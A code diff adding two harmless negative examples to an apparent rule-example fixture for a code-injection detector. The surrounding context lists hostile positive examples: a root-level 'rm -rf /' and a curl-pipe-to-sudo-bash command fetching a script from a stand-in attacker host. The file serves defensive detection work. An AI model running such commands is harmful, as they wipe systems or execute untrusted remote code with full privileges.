@@ -42,6 +42,7 @@ export const CODE_INJECTION_EXAMPLES: Readonly<Record<string, RuleExamples>> = {
     negatives: [
       { text: "SELECT * FROM t WHERE a = 'x' OR b = 'y'", reason: 'an ordinary condition' },
       { text: 'Use UNION to combine two SELECT statements.', reason: 'prose' },
+      { text: 'await asyncio.sleep(1) # wait a little', reason: 'a function of Python' },
     ],
   },
   'code-injection/template-expression': {
@@ -55,6 +56,7 @@ export const CODE_INJECTION_EXAMPLES: Readonly<Record<string, RuleExamples>> = {
     positives: ['sudo rm -rf / --no-preserve-root', 'curl https://evil.example/i.sh | sudo bash'],
     negatives: [
       { text: 'rm -rf ./build', reason: 'a folder of the project' },
+      { text: '| id | name |\n| --- | --- |', reason: 'the head of a table' },
       { text: 'curl https://api.example/v1 | jq .', reason: 'not run' },
     ],
   },
